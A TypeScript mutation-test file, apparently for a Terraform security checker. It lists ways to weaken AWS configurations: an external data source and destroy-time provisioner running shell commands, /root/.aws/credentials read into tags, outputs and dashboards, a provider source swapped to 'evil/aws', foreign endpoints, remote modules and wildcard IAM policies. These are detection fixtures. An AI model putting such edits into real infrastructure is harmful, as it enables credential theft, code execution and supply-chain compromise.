// biome-ignore-all lint/suspicious/noTemplateCurlyInString: Terraform writes templates so

import type { Weakening } from "../mutations/mutation";
import { admit, all, ingress, set } from "../support/edits";

/** What Terraform runs, reads, forgets or repeats. */
export const terraform: readonly Weakening[] = [
  [
    "a rule is repeated over ranges that a function makes",
    (json) =>
      json.add("database", ingress, "mutant", {
        for_each: '${toset(["10.0.0.0/16"])}',
        security_group_id: json.id("database", "aws_security_group", "access_instance"),
        ip_protocol: "tcp",
        from_port: 5432,
        to_port: 5432,
        cidr_ipv4: "${each.value}",
      }),
    /mutant/,
  ],
  [
    "a rule's range depends on the workspace",
    admit({ cidr_ipv4: '${terraform.workspace == "default" ? "10.0.0.0/16" : "192.0.2.0/24"}' }),
    /mutant|access_instance/,
  ],
  [
    "a rule's range is made of a local value",
    (json) => {
      json.json("database").locals = { range: '${join(".", ["10", "0", "0", "0/16"])}' };
      admit({ cidr_ipv4: "${local.range}" })(json);
    },
    /mutant|access_instance|nodes|pods/,
  ],
  [
    "a rule's range is a variable whose default is harmless",
    (json) => {
      json.json("database").variable = { range: { default: "192.0.2.0/24" } };
      admit({ cidr_ipv4: "${var.range}" })(json);
    },
    /mutant|var\.range/,
  ],
  [
    "a rule's range is a variable that is to be told at apply",
    (json) => {
      json.json("database").variable = { range: {} };
      admit({ cidr_ipv4: "${var.range}" })(json);
    },
    /mutant|var\.range/,
  ],
  [
    "a policy is read from a file",
    set("org-acme", "aws_iam_role_policy", "identity_role", { policy: '${file("policy.json")}' }),
    /identity_role/,
  ],
  [
    "a policy is made by a template file",
    set("org-acme", "aws_iam_role_policy", "identity_role", { policy: '${templatefile("policy.json", {})}' }),
    /identity_role/,
  ],
  [
    "a policy document is merged from another file's documents",
    (json) => {
      const documents = json.json("org-acme").data.aws_iam_policy_document;
      const name = Object.keys(documents).find((key) =>
        key.startsWith("identity_role_permissions"),
      ) as string;
      documents[name].source_policy_documents = [
        '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}',
      ];
    },
    /dev-org-acme|test-org-acme|identity_role/,
  ],
  [
    "a policy document overrides its own statement",
    (json) => {
      const documents = json.json("org-acme").data.aws_iam_policy_document;
      const name = Object.keys(documents).find((key) =>
        key.startsWith("secrets_credentials_guard"),
      ) as string;
      documents[name].override_policy_documents = [
        '{"Version":"2012-10-17","Statement":[{"Sid":"OnlyTheseRolesRead","Effect":"Allow","Principal":{"AWS":"arn:aws:iam::111122223333:root"},"Action":"secretsmanager:DescribeSecret","Resource":"*"}]}',
      ];
    },
    /secrets_credentials|acme-test-database-credentials/,
  ],
  [
    "a lock's document has a later statement of the same id",
    (json) => {
      const documents = json.json("org-acme").data.aws_iam_policy_document;
      const name = Object.keys(documents).find((key) =>
        key.startsWith("secrets_credentials_guard"),
      ) as string;
      documents[name].statement[0].effect = '${false ? "Deny" : "Allow"}';
    },
    /secrets_credentials|acme-test-database-credentials/,
  ],
  [
    "a rule leaves its port to others",
    (json) => {
      json.one("database", ingress, "instance_access_postgresql").lifecycle = { ignore_changes: "all" };
    },
    /instance_access_postgresql/,
  ],
  [
    "an instance ignores what becomes of its groups",
    (json) => {
      json.one("database", "aws_db_instance", "instance").lifecycle = {
        ignore_changes: ["vpc_security_group_ids", "publicly_accessible"],
      };
    },
    /ignored/,
  ],
  [
    "a lock is removed from the state and stays unmanaged",
    (json) => {
      json.json("org-acme").removed = [
        { from: "aws_secretsmanager_secret_policy.old", lifecycle: { destroy: false } },
      ];
    },
    /removed/,
  ],
  [
    "a role of another team is imported",
    (json) => {
      json.json("org-acme").import = [{ to: "aws_iam_role.identity_role", id: "administrator" }];
    },
    /import/,
  ],
  [
    "a resource is managed through a second provider of another region",
    (json) => {
      json.json("database").provider.aws.push({ alias: "elsewhere", region: "us-east-1" });
      json.one("database", "aws_kms_key", "instance_keys_data").provider = "aws.elsewhere";
    },
    /elsewhere|us-east-1/,
  ],
  [
    "a provider takes another role",
    (json) => {
      json.json("database").provider.aws[0].assume_role = [{ role_arn: "arn:aws:iam::999988887777:role/x" }];
    },
    /assume_role/,
  ],
  [
    "a provider calls a foreign endpoint",
    (json) => {
      json.json("database").provider.aws[0].endpoints = [{ secretsmanager: "https://example.com" }];
    },
    /endpoints/,
  ],
  [
    "a provider acts in any account",
    (json) => {
      delete json.json("database").provider.aws[0].allowed_account_ids;
    },
    /database/,
  ],
  [
    "a provider tags every resource as the cluster's own",
    (json) => {
      json.json("database").provider.aws[0].default_tags[0].tags["kubernetes.io/cluster/test"] = "owned";
    },
    /kubernetes\.io|security-group|group/,
  ],
  [
    "a provider tags an organization's secrets as another environment's",
    (json) => {
      json.json("org-acme").provider.aws[0].default_tags[0].tags.Environment = "production";
    },
    /acme/,
  ],
  [
    "a provider has another source",
    (json) => {
      json.json("org-acme").terraform.required_providers.aws.source = "evil/aws";
    },
    /evil\/aws/,
  ],
  [
    "a provider's version is open",
    (json) => {
      json.json("org-acme").terraform.required_providers.aws.version = ">= 6.25.0";
    },
    />= 6\.25\.0/,
  ],
  [
    "a data source runs a program",
    (json) => {
      json.json("org-acme").data.external = { mutant: { program: ["sh", "-c", "id"] } };
    },
    /external/,
  ],
  [
    "a data source reads a secret's value",
    (json) => {
      json.json("org-acme").data.aws_secretsmanager_secret_version = {
        mutant: { secret_id: "globex-test-database-credentials" },
      };
    },
    /aws_secretsmanager_secret_version/,
  ],
  [
    "an ephemeral resource reads a secret's value",
    (json) => {
      json.json("org-acme").ephemeral = {
        aws_secretsmanager_secret_version: { mutant: { secret_id: "globex-test-database-credentials" } },
      };
    },
    /ephemeral/,
  ],
  [
    "a Terraform action runs after a resource",
    (json) => {
      json.json("org-acme").action = {
        aws_lambda_invoke: { mutant: { config: { function_name: "x", payload: "{}" } } },
      };
    },
    /action/,
  ],
  [
    "a module is loaded",
    (json) => {
      json.json("org-acme").module = { mutant: { source: "git::https://example.com/x.git" } };
    },
    /module/,
  ],
  [
    "a check runs a data source of its own",
    (json) => {
      json.json("org-acme").check = {
        mutant: {
          data: { http: { x: { url: "https://example.com" } } },
          assert: [{ condition: true, error_message: "" }],
        },
      };
    },
    /check/,
  ],
  [
    "a resource runs a program when it is destroyed",
    (json) => {
      json.one("org-acme", "aws_iam_role", "identity_role").provisioner = [
        { "local-exec": { when: "destroy", command: "id" } },
      ];
    },
    /runs something/,
  ],
  [
    "a precondition reads a file",
    (json) => {
      json.one("org-acme", "aws_iam_role", "identity_role").lifecycle = {
        precondition: [
          {
            condition: '${can(file("/root/.aws/credentials"))}',
            error_message: '${file("/root/.aws/credentials")}',
          },
        ],
      };
    },
    /the function file/,
  ],
  [
    "a tag carries the content of a file",
    (json) => {
      json.one("org-acme", "aws_iam_role", "identity_role").tags = { x: '${file("/root/.aws/credentials")}' };
    },
    /identity_role|file/,
  ],
  [
    "an output carries the content of a file",
    (json) => {
      json.json("org-acme").output = { x: { value: '${filebase64("/root/.aws/credentials")}' } };
    },
    /file/,
  ],
  [
    "a dashboard carries the content of a file",
    (json) => {
      json.json("org-acme").resource.aws_cloudwatch_dashboard = {
        mutant: {
          dashboard_name: "x",
          dashboard_body:
            '${jsonencode({widgets = [{type = "text", properties = {markdown = file("/root/.aws/credentials")}}]})}',
        },
      };
    },
    /mutant|file/,
  ],
  [
    "a lock exists only where a condition says so",
    all((json) => {
      json.one("org-acme", "aws_secretsmanager_secret_policy", "secrets_credentials").count =
        '${terraform.workspace == "x" ? 1 : 0}';
    }),
    /secrets_credentials/,
  ],
  [
    "a stack runs in HCP Terraform",
    (json) => {
      json.json("org-acme").terraform.cloud = { organization: "evil" };
    },
    /cloud/,
  ],
  [
    "a provider's plugin may be replaced by metadata",
    (json) => {
      json.json("org-acme").terraform.provider_meta = { aws: { user_agent: ["x"] } };
    },
    /provider_meta/,
  ],
];
